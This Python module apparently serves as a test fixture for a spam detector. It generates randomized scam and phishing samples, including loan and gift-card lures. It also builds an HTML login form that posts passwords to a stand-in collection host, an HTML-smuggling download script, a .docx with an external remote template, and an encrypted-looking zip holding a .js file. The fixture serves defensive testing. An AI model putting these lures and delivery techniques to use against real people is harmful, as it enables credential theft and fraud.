"""
What spammers write: one function a kind, each `(rng) -> (text, parts)`, another copy on each call.

`ATTACKS` lists them.  What holds: all text is our own or word salad, every file is harmless and
only shaped like the real thing.  Not here: who sends them, and what should come of it.
"""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable

from detection_site import ENGLISH, pdf, png
from outfall.testing.world.letter import Part
from outfall.testing.world.words import LANGUAGES, paragraph, token

Copy = tuple[str, tuple[Part, ...]]

WORD_DOCUMENT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
WALLET = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"
PHONE = "+44 20 7946 0123"
LURE = "Your parcel waits because a fee is missing. Settle it today."
CURE = (
    "Slim in ten days without hunger. Doctors are amazed, and the first hundred customers pay "
    "half. Order now and feel the difference: http://www.slim-now.test/order"
)
LOAN = (
    ("Banks say no to you", "Need cash before the month is out", "A lender has set sums aside"),
    ("any sum is wired in two days", "we lend where others refuse", "our desk does all paperwork"),
    ("interest stays at two per cent", "no collateral is asked for", "old debts do not matter"),
)
FAVOUR = (
    ("Are you at your desk", "Quick favour before my next meeting", "I am tied up all morning"),
    ("please get five gift cards", "we want to surprise some staff", "a transfer must leave today"),
    ("Keep the receipts", "you have the money back by evening", "tell nobody yet"),
)


def _small_talk(rng: random.Random) -> str:
    return paragraph(rng, ENGLISH, 2)


def _told(rng: random.Random, slots: tuple[tuple[str, ...], ...], contact: str) -> str:
    # Another choice and order of sentences each time, with one that nobody wrote before.
    sentences = [rng.choice(slot) for slot in slots] + [paragraph(rng, ENGLISH, 1)]
    rng.shuffle(sentences)
    return ". ".join(sentences) + f".\n{contact}"


# ------------------------------------------------------------------ texts and links


def rewritten_with_a_telephone(rng: random.Random) -> Copy:
    """The number is what does not change."""
    return _told(rng, LOAN, f"Ring {PHONE}"), ()


def rewritten_with_a_wallet(rng: random.Random) -> Copy:
    """The wallet is what does not change."""
    return _told(rng, LOAN, f"Pay into {WALLET}"), ()


def gift_cards(rng: random.Random) -> Copy:
    """No link, no contact."""
    return _told(rng, FAVOUR, "Answer here only"), ()


def shortened_link(rng: random.Random) -> Copy:
    """One line and one of two shortened links."""
    return f"hey, is this you? https://bit.ly/{rng.choice(('3xYzAbC', '3qRsTuV'))}", ()


def redirector(rng: random.Random) -> Copy:
    """A search engine's link, to a host of its own each time."""
    target = f"https://{token(rng, 6)}.fee-desk.test/{token(rng, 8)}"
    return f"{LURE}\nhttps://www.google.com/url?q={target}", ()


def own_domain(rng: random.Random) -> Copy:
    """A domain of its own each time; the path has one shape."""
    return f"{_small_talk(rng)}\nhttp://get-{token(rng, 7)}.test/w/slim/{rng.randrange(99_999)}", ()


def behind_an_original_message(rng: random.Random) -> Copy:
    """The offer stands where a mail program would quote."""
    head = f"-----Original Message-----\nFrom: {token(rng, 5)}\nSent: Monday"
    return f"{_small_talk(rng)}\n\n{head}\n\n{CURE}", ()


def hijacked_thread(rng: random.Random) -> Copy:
    """A line with a link above a letter that the recipient really wrote."""
    link = f"https://share-files.test/{token(rng, 8)}"
    return f"Please see the papers: {link}\n\nOn Monday you wrote:\n> {_small_talk(rng)}", ()


def _foreign(name: str) -> Callable[[random.Random], Copy]:
    language = next(one for one in LANGUAGES if one.name == name)
    lines = [paragraph(random.Random(number), language, 1) for number in range(12)]
    return lambda rng: ("\n".join([*rng.sample(lines, 6), PHONE]), ())


# ------------------------------------------------------------------ files


def altered_picture(rng: random.Random) -> Copy:
    """The same picture to the eye, other bytes each time, no words."""
    return "", (Part("image/png", png(rng, motif=3, noise=9), f"{token(rng, 5)}.png"),)


def pdf_with_a_link(rng: random.Random) -> Copy:
    """Another text and padding each time; the link's domain stays."""
    link = f"https://{token(rng, 6)}.docs-view.test/{token(rng, 9)}"
    page = pdf(_small_talk(rng), link, rng.randbytes(900))
    return _small_talk(rng), (Part("application/pdf", page, f"{token(rng, 6)}.pdf"),)


def locked_archive(rng: random.Random) -> Copy:
    """An archive that says of itself that its script is encrypted; the password is in the text."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(f"{token(rng, 8)}.js", rng.randbytes(rng.randint(9_000, 20_000)))
    data = bytearray(packed.getvalue())
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + flags] |= 1
    part = Part("application/zip", bytes(data), f"{token(rng, 7)}.zip")
    return f"{_small_talk(rng)}\nPassword: {rng.randrange(9_999):04}", (part,)


def login_form(rng: random.Random) -> Copy:
    """A page that asks for a password and hands it to a foreign host."""
    noise = "".join(f"<!-- {token(rng, 12)} -->" for _ in range(rng.randint(2, 9)))
    page = (
        f"<html>{noise}<form method=post action='https://{token(rng, 5)}.collect.test/in.php'>"
        "<input name=login><input type=password name=word><button>Sign in</button></form></html>"
    )
    return _small_talk(rng), (Part("text/html", page.encode(), f"{token(rng, 6)}.htm"),)


def smuggling_page(rng: random.Random) -> Copy:
    """A page whose script puts a file together; names and file differ each time."""
    name, data = token(rng, 6), token(rng, 3_000)
    page = (
        f"<html><script>var {name}=atob('{data}');var b=new Blob([{name}]);"
        "var a=document.createElement('a');a.href=URL.createObjectURL(b);"
        f"a.download='{token(rng, 5)}.zip';a.click()</script></html>"
    )
    return _small_talk(rng), (Part("text/html", page.encode(), f"{token(rng, 6)}.html"),)


def foreign_template(rng: random.Random) -> Copy:
    """A document that fetches its template, and with it a program, from afar."""
    relation = (
        '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/attachedTemplate" Target="https://files.far.test/{token(rng, 6)}/n.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", f"<w:document>{_small_talk(rng)}</w:document>")
        archive.writestr("word/_rels/settings.xml.rels", relation)
    return _small_talk(rng), (Part(WORD_DOCUMENT, packed.getvalue(), f"{token(rng, 6)}.docx"),)


def calendar(rng: random.Random) -> Copy:
    """An invitation whose place is a link."""
    event = (
        f"BEGIN:VCALENDAR\nVERSION:2.0\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:{token(rng, 20)}\n"
        f"SUMMARY:{paragraph(rng, ENGLISH, 1)}\nLOCATION:https://prize-day.test/{token(rng, 6)}\n"
        "END:VEVENT\nEND:VCALENDAR\n"
    )
    return _small_talk(rng), (Part("text/calendar; method=REQUEST", event.encode()),)


ATTACKS: dict[str, Callable[[random.Random], Copy]] = {
    **{
        make.__name__: make
        for make in (
            rewritten_with_a_telephone, rewritten_with_a_wallet, gift_cards, shortened_link,
            redirector, own_domain, behind_an_original_message, hijacked_thread, altered_picture,
            pdf_with_a_link, locked_archive, login_form, smuggling_page, foreign_template, calendar,
        )
    },
    **{name: _foreign(name) for name in ("ru", "zh", "el")},
}  # fmt: skip
